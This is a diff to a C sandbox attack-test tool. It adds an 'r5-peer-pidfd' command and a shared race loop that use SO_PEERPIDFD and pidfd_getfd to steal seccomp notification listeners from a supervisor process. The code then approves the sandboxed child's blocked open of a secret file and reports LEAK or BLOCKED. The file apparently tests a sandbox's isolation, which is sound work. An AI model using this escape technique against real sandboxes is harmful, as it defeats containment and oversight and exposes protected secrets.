@@ -352,6 +352,7 @@ static int cmd_getxattr(int argc, char **argv)
 /* Linux 6.5 (Debian 12's headers lack them). */
 #define R5_SO_PASSPIDFD 76
 #define R5_SCM_PIDFD    0x04
+#define R5_SO_PEERPIDFD 77
 
 struct r5_sender {
 	int sock;
@@ -419,6 +420,75 @@ static int r5_take_listeners(int pidfd, int *fds, int max)
 }
 
 /*
+ * Our child's open of secret, answered CONTINUE by us on the stolen
+ * listeners, as often as the supervisor wins the race (200 tries at most).
+ * The child's result line in buf.
+ */
+static void r5_race_open(const int *fds, int n, const char *secret, char *buf, size_t size,
+			 int *answered)
+{
+	for (int tries = 0; tries < 200 && !strstr(buf, "LEAK"); tries++) {
+		int out;
+		pid_t child = spawn_reader(secret, &out);
+		ssize_t len;
+
+		if (child < 0)
+			return;
+		/*
+		 * The supervisor races us for each notification: a RECV that
+		 * lost it would wait for the next one, so each is bounded.
+		 */
+		for (int i = 0; i < 300 && waitpid(child, NULL, WNOHANG) == 0; i++) {
+			ualarm(50000, 0);
+			answer_all(fds, n, 10, -1, answered);
+			ualarm(0, 0);
+		}
+		if (waitpid(child, NULL, WNOHANG) == 0) {
+			note("try %d: the reader is still waiting; killed", tries);
+			kill(child, SIGKILL);
+			waitpid(child, NULL, 0);
+		}
+		len = read(out, buf, size - 1);
+		buf[len > 0 ? len : 0] = '\0';
+		buf[strcspn(buf, "\n")] = '\0';
+		close(out);
+	}
+}
+
+/*
+ * peer-pidfd SOCK SECRET: connect to SOCK (a unix socket a process outside
+ * the sandbox listens on: unotifyd's, for a program of run --daemon),
+ * SO_PEERPIDFD: a pidfd of that process, with which pidfd_getfd takes its
+ * listeners (STOLE), then our child's refused open is answered by us.
+ */
+static int cmd_peer_pidfd(int argc, char **argv)
+{
+	struct sockaddr_un sun;
+	socklen_t len = sizeof(int);
+	int s, pidfd = -1, fds[256], n, answered = 0;
+	char buf[512] = "";
+
+	if (argc != 2)
+		return 2;
+	sigaction(SIGALRM, &(struct sigaction){ .sa_handler = r5_wake }, NULL);
+	s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
+	if (s < 0 || connect(s, (struct sockaddr *)&sun, r5_unix_addr(argv[0], &sun)) < 0)
+		return setup_failed("connect", errno);
+	if (getsockopt(s, SOL_SOCKET, R5_SO_PEERPIDFD, &pidfd, &len) < 0)
+		return blocked(errno);
+	n = r5_take_listeners(pidfd, fds, 256);
+	if (n < 0) {
+		note("pidfd %d of the peer: pidfd_getfd refused", pidfd);
+		return blocked(-n);
+	}
+	result("STOLE %d listener(s) from the socket's peer", n);
+	r5_race_open(fds, n, argv[1], buf, sizeof(buf), &answered);
+	note("answered %d notification(s) ourselves", answered);
+	result("%s", *buf ? buf : "BLOCKED child-silent");
+	return 0;
+}
+
+/*
  * helper-pidfd SECRET: a sendmsg on one end of a socket pair, which the
  * supervisor performs in a helper process (a CLONE_VM child holding a
  * copy of the supervisor's descriptors) that blocks once the buffer is
@@ -429,7 +499,7 @@ static int r5_take_listeners(int pidfd, int *fds, int max)
  */
 static int cmd_helper_pidfd(int argc, char **argv)
 {
-	int sv[2], one = 1, small = 4096, fds[64], n, pidfd, out, answered = 0;
+	int sv[2], one = 1, small = 4096, fds[64], n, pidfd, answered = 0;
 	struct r5_sender s = { .len = 4 << 20 };
 	char buf[512] = "";
 	pthread_t th;
@@ -454,31 +524,7 @@ static int cmd_helper_pidfd(int argc, char **argv)
 		return blocked(-n);
 	}
 	result("STOLE %d listener(s) from the supervisor's helper", n);
-	for (int tries = 0; tries < 200 && !strstr(buf, "LEAK"); tries++) {
-		pid_t child = spawn_reader(argv[0], &out);
-		ssize_t len;
-
-		if (child < 0)
-			return setup_failed("fork", errno);
-		/*
-		 * The supervisor races us for each notification: a RECV that
-		 * lost it would wait for the next one, so each is bounded.
-		 */
-		for (int i = 0; i < 300 && waitpid(child, NULL, WNOHANG) == 0; i++) {
-			ualarm(50000, 0);
-			answer_all(fds, n, 10, -1, &answered);
-			ualarm(0, 0);
-		}
-		if (waitpid(child, NULL, WNOHANG) == 0) {
-			note("try %d: the reader is still waiting; killed", tries);
-			kill(child, SIGKILL);
-			waitpid(child, NULL, 0);
-		}
-		len = read(out, buf, sizeof(buf) - 1);
-		buf[len > 0 ? len : 0] = '\0';
-		buf[strcspn(buf, "\n")] = '\0';
-		close(out);
-	}
+	r5_race_open(fds, n, argv[0], buf, sizeof(buf), &answered);
 	note("answered %d notification(s) ourselves", answered);
 	result("%s", *buf ? buf : "BLOCKED child-silent");
 	/* Let the helper finish: read what it sends. */
@@ -504,5 +550,7 @@ const struct attack_cmd attack_r5_cmds[] = {
 	  cmd_getxattr },
 	{ "r5-helper-pidfd", "SECRET       SCM_PIDFD of the supervisor's send helper: its listener",
 	  cmd_helper_pidfd },
+	{ "r5-peer-pidfd", "SOCK SECRET     SO_PEERPIDFD of a process outside: its listeners",
+	  cmd_peer_pidfd },
 	{ 0 },
 };
